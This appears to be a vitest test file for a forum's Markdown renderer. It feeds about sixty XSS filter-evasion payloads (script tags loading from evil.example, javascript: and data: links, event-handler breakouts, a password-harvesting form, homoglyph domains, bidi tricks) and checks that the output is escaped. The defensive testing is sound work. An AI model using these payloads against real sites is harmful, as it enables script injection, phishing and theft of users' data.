import { expect, test } from 'vitest';
import { parseMarkdown, renderMarkdown } from './render-markdown.ts';

const known = {
  members: new Map([['sam', 'Sam']]),
  images: new Map([['0192aaaa-0000-7000-8000-000000000001', { width: 1600, height: 900 }]]),
  posts: new Set(['0192aaaa-0000-7000-8000-000000000002']),
};

/** The HTML of a text, or the code with which it is refused. */
function outcome(source: string): string {
  const parsed = parseMarkdown(source);
  return parsed.ok ? renderMarkdown(parsed.value, known).html : parsed.refusal.code;
}

/**
 * The vectors of the OWASP XSS filter evasion cheat sheet that can be written in a post, and those
 * that Markdown adds.
 */
const hostile: readonly (readonly [what: string, source: string, html: string])[] = [
  [
    'script element',
    '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
    '<p>&lt;SCRIPT SRC=<a href="https://evil.example/xss.js" rel="nofollow ugc noopener">https://evil.example/xss.js</a>&gt;&lt;/SCRIPT&gt;</p>',
  ],
  [
    'script in quotes',
    '"><script>alert(1)</script>',
    '<p>"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  ],
  [
    'polyglot locator',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
    `<p>javascript:/<em>--&gt;&lt;/title&gt;&lt;/style&gt;&lt;/textarea&gt;&lt;/script&gt;&lt;/xmp&gt;&lt;svg/onload='+/"/+/onmouseover=1/+/[</em>/[]/+alert(1)//'&gt;</p>`,
  ],
  [
    'image with a javascript address',
    '<IMG SRC="javascript:alert(1);">',
    '<p>&lt;IMG SRC="javascript:alert(1);"&gt;</p>',
  ],
  [
    'image without quotes',
    '<IMG SRC=javascript:alert(1)>',
    '<p>&lt;IMG SRC=javascript:alert(1)&gt;</p>',
  ],
  [
    'malformed image',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    '<p>&lt;IMG """&gt;&lt;SCRIPT&gt;alert(1)&lt;/SCRIPT&gt;"&gt;</p>',
  ],
  [
    'image from character codes',
    '<IMG SRC=# onmouseover="alert(1)">',
    '<p>&lt;IMG SRC=# onmouseover="alert(1)"&gt;</p>',
  ],
  [
    'image with an error handler',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<p>&lt;IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"&gt;&lt;/img&gt;</p>',
  ],
  [
    'decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<p>&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;</p>',
  ],
  [
    'entities without semicolons',
    '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
    '<p>&lt;a href="&amp;#0000106&amp;#0000097&amp;#0000118&amp;#0000097script:alert(1)"&gt;x&lt;/a&gt;</p>',
  ],
  [
    'embedded tab',
    '<IMG SRC="jav\tascript:alert(1);">',
    '<p>&lt;IMG SRC="jav\tascript:alert(1);"&gt;</p>',
  ],
  [
    'embedded newline',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<p>&lt;IMG SRC="jav\nascript:alert(1);"&gt;</p>',
  ],
  [
    'null breaks up javascript',
    '<IMG SRC=java\0script:alert(1)>',
    '<p>&lt;IMG SRC=javascript:alert(1)&gt;</p>',
  ],
  [
    'no closing script',
    '<SCRIPT SRC=https://evil.example/xss.js?< B >',
    '<p>&lt;SCRIPT SRC=<a href="https://evil.example/xss.js?" rel="nofollow ugc noopener">https://evil.example/xss.js?</a>&lt; B &gt;</p>',
  ],
  [
    'half open image',
    '<IMG SRC="`<javascript:alert>`(1)"',
    '<p>&lt;IMG SRC="<code>&lt;javascript:alert&gt;</code>(1)"</p>',
  ],
  [
    'input image',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<p>&lt;INPUT TYPE="IMAGE" SRC="javascript:alert(1);"&gt;</p>',
  ],
  [
    'body background',
    '<BODY BACKGROUND="javascript:alert(1)" ONLOAD=alert(1)>',
    '<p>&lt;BODY BACKGROUND="javascript:alert(1)" ONLOAD=alert(1)&gt;</p>',
  ],
  [
    'svg object',
    `<svg/onload=alert('XSS')><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>`,
    `<p>&lt;svg/onload=alert('XSS')&gt;&lt;use href="data:image/svg+xml;base64,PHN2Zz4="/&gt;&lt;/svg&gt;</p>`,
  ],
  [
    'iframe',
    '<IFRAME SRC="javascript:alert(1);" srcdoc="<script>alert(1)</script>"></IFRAME>',
    '<p>&lt;IFRAME SRC="javascript:alert(1);" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"&gt;&lt;/IFRAME&gt;</p>',
  ],
  [
    'style with expression',
    '<DIV STYLE="width: expression(alert(1));background:url(javascript:alert(1))">x</DIV>',
    '<p>&lt;DIV STYLE="width: expression(alert(1));background:url(javascript:alert(1))"&gt;x&lt;/DIV&gt;</p>',
  ],
  [
    'meta refresh',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD4=">',
    '<p>&lt;META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD4="&gt;</p>',
  ],
  [
    'object and embed',
    '<OBJECT DATA="data:text/html,x"></OBJECT><EMBED SRC="data:image/svg+xml,x">',
    '<p>&lt;OBJECT DATA="data:text/html,x"&gt;&lt;/OBJECT&gt;&lt;EMBED SRC="data:image/svg+xml,x"&gt;</p>',
  ],
  [
    'form',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<p>&lt;form action="<a href="https://evil.example/" rel="nofollow ugc noopener">https://evil.example</a>"&gt;&lt;input name=password&gt;&lt;button&gt;Log in&lt;/button&gt;&lt;/form&gt;</p>',
  ],
  [
    'mathml',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<p>&lt;math href="javascript:alert(1)"&gt;CLICKME&lt;/math&gt;</p>',
  ],
  [
    'comment',
    '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
    '<p>&lt;!--[if gte IE 4]&gt;&lt;SCRIPT&gt;alert(1);&lt;/SCRIPT&gt;&lt;![endif]--&gt;</p>',
  ],
  [
    'base',
    '<BASE HREF="javascript:alert(1);//">',
    '<p>&lt;BASE HREF="javascript:alert(1);//"&gt;</p>',
  ],
  ['link to javascript', '[x](javascript:alert(1))', '<p>[x](javascript:alert(1))</p>'],
  ['link to javascript in capitals', '[x](JaVaScRiPt:alert(1))', '<p>[x](JaVaScRiPt:alert(1))</p>'],
  [
    'link to javascript by entities',
    '[x](&#106;&#97;vascript&colon;alert(1))',
    '<p>[x](javascript:alert(1))</p>',
  ],
  [
    'link to javascript with a tab',
    '[x](<java\tscript:alert(1)>)',
    '<p>[x](&lt;java\tscript:alert(1)&gt;)</p>',
  ],
  [
    'link to javascript after a space',
    '[x](<  javascript:alert(1)>)',
    '<p>[x](&lt;  javascript:alert(1)&gt;)</p>',
  ],
  ['link to vbscript', '[x](vbscript:msgbox(1))', '<p>[x](vbscript:msgbox(1))</p>'],
  [
    'link to data',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<p>[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)</p>',
  ],
  ['link to a file', '[x](file:///etc/passwd)', '<p>[x](file:///etc/passwd)</p>'],
  [
    'link that breaks out of its attribute',
    '[x](https://evil.example/"onmouseover="alert(1))',
    '<p><a href="https://evil.example/%22onmouseover=%22alert(1)" rel="nofollow ugc noopener">x</a></p>',
  ],
  [
    'title that breaks out',
    `[x](https://evil.example 'a" onmouseover="alert(1)')`,
    '<p><a href="https://evil.example/" rel="nofollow ugc noopener">x</a></p>',
  ],
  ['autolink to javascript', '<javascript:alert(1)>', '<p>&lt;javascript:alert(1)&gt;</p>'],
  ['link without a scheme', '[x](//evil.example/a)', '<p>[x](//evil.example/a)</p>'],
  ['link with backslashes', '[x](/\\evil.example)', '<p>[x](/\\evil.example)</p>'],
  [
    'link with a login',
    '[x](https://fourball.example@evil.example/)',
    '<p>[x](<a href="https://fourball.example/" rel="nofollow ugc noopener">https://fourball.example</a>@evil.example/)</p>',
  ],
  [
    'link by definition',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '<p>[x][1]</p>\n<p>[1]: javascript:alert(1)</p>',
  ],
  ['image with javascript', '![x](javascript:alert(1))', '<p>![x](javascript:alert(1))</p>'],
  [
    'image with data',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '<p>![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)</p>',
  ],
  [
    'image of another website',
    '![x](https://evil.example/pixel.gif?who=me)',
    '<p><a href="https://evil.example/pixel.gif?who=me" rel="nofollow ugc noopener">x</a> <span class="real-host">(evil.example)</span></p>',
  ],
  ['image of another website without words', '![](https://evil.example/pixel.svg)', 'post_empty'],
  [
    'image that climbs out of its path',
    '![x](/api/forum/images/../../account/deletion)',
    '<p>x</p>',
  ],
  [
    'alt text that breaks out',
    '![x" onerror="alert(1)](/api/forum/images/0192aaaa-0000-7000-8000-000000000001)',
    '<p><img src="/api/forum/images/0192aaaa-0000-7000-8000-000000000001/large" srcset="/api/forum/images/0192aaaa-0000-7000-8000-000000000001/small 640w, /api/forum/images/0192aaaa-0000-7000-8000-000000000001/large 1600w" sizes="(min-width: 768px) 40rem, 100vw" width="1600" height="900" alt="x&quot; onerror=&quot;alert(1)" loading="lazy" decoding="async" /></p>',
  ],
  [
    'image inside a link',
    '[![x](https://evil.example/a.png)](https://evil.example/b)',
    '<p><a href="https://evil.example/b" rel="nofollow ugc noopener">x</a></p>',
  ],
  [
    'html in code',
    '`<img src=x onerror=alert(1)>`',
    '<p><code>&lt;img src=x onerror=alert(1)&gt;</code></p>',
  ],
  [
    'html in a fence with a language',
    '```"><script>alert(1)</script>\n<b>x</b>\n```',
    '<pre><code>&lt;b&gt;x&lt;/b&gt;\n</code></pre>',
  ],
  [
    'text that looks like another host',
    '[https://www.fourball.example/login](https://evil.example/login)',
    '<p><a href="https://evil.example/login" rel="nofollow ugc noopener">https://www.fourball.example/login</a> <span class="real-host">(evil.example)</span></p>',
  ],
  [
    'host in another script',
    '[\u0430\u0440\u0440\u04cf\u0435.com](https://\u0430\u0440\u0440\u04cf\u0435.com/)',
    '<p><a href="https://xn--80ak6aa92e.com/" rel="nofollow ugc noopener">\u0430\u0440\u0440\u04cf\u0435.com</a> <span class="real-host">(xn--80ak6aa92e.com)</span></p>',
  ],
  [
    'host in another script, as it is',
    'See https://\u0440\u0430ypal.com/login',
    '<p>See <a href="https://xn--ypal-43d9g.com/login" rel="nofollow ugc noopener">https://xn--ypal-43d9g.com/login</a></p>',
  ],
  [
    'host in another script behind a word',
    '[your bank](https://\u0440\u0430ypal.com)',
    '<p><a href="https://xn--ypal-43d9g.com/" rel="nofollow ugc noopener">your bank</a> <span class="real-host">(xn--ypal-43d9g.com)</span></p>',
  ],
  [
    'host with full-width letters',
    '[\uff45xample.com](https://evil.example/)',
    '<p><a href="https://evil.example/" rel="nofollow ugc noopener">\uff45xample.com</a> <span class="real-host">(evil.example)</span></p>',
  ],
  [
    'host with another dot',
    '[example\u2024com](https://evil.example/)',
    '<p><a href="https://evil.example/" rel="nofollow ugc noopener">example\u2024com</a> <span class="real-host">(evil.example)</span></p>',
  ],
  [
    'reversed text',
    'invoice\u202egpj.exe and [moc\u202e](https://evil.example)',
    '<p>invoicegpj.exe and <a href="https://evil.example/" rel="nofollow ugc noopener">moc</a></p>',
  ],
  [
    'letters with towers of marks',
    'Z\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351algo',
    '<p>Z\u0351\u0351\u0351\u0351algo</p>',
  ],
  [
    'email with more recipients',
    '[x](mailto:sam@example.com?bcc=all@example.com)',
    '<p>[x](<a href="mailto:sam@example.com" rel="nofollow ugc noopener">mailto:sam@example.com</a>?bcc=all@example.com)</p>',
  ],
  [
    'mention with markup',
    '@sam<script>alert(1)</script> @sam"onclick="x @nobody',
    '<p><a href="/members/Sam" class="mention">@Sam</a>&lt;script&gt;alert(1)&lt;/script&gt; <a href="/members/Sam" class="mention">@Sam</a>"onclick="x @nobody</p>',
  ],
  [
    'quote of a post with markup',
    '> [@sam](/forum/p/0192aaaa-0000-7000-8000-000000000002)\n> <b onclick=alert(1)>x</b>\n\nMine',
    '<blockquote data-quote="0192aaaa-0000-7000-8000-000000000002">\n<p>&lt;b onclick=alert(1)&gt;x&lt;/b&gt;</p>\n</blockquote>\n<p>Mine</p>',
  ],
  [
    'quote of an unknown post',
    '> [@sam](/forum/p/0192aaaa-0000-7000-8000-000000000009)\n> x\n\nMine',
    '<blockquote>\n<p><a href="/forum/p/0192aaaa-0000-7000-8000-000000000009">@sam</a><br />\nx</p>\n</blockquote>\n<p>Mine</p>',
  ],
  [
    'forged quote',
    '<blockquote data-quote="0192aaaa-0000-7000-8000-000000000002">x</blockquote>',
    '<p>&lt;blockquote data-quote="0192aaaa-0000-7000-8000-000000000002"&gt;x&lt;/blockquote&gt;</p>',
  ],
  [
    'class of another element',
    '<a class="mention" href="/members/sam">@Sam</a> <span class="real-host">(fourball.example)</span>',
    '<p>&lt;a class="mention" href="/members/sam"&gt;<a href="/members/Sam" class="mention">@Sam</a>&lt;/a&gt; &lt;span class="real-host"&gt;(fourball.example)&lt;/span&gt;</p>',
  ],
];

// Shows attack 110, 111, 113
test('makes hostile texts harmless', () => {
  expect(hostile.map(([what, source]) => [what, source, outcome(source)])).toEqual(
    hostile.map((row) => [...row]),
  );
});
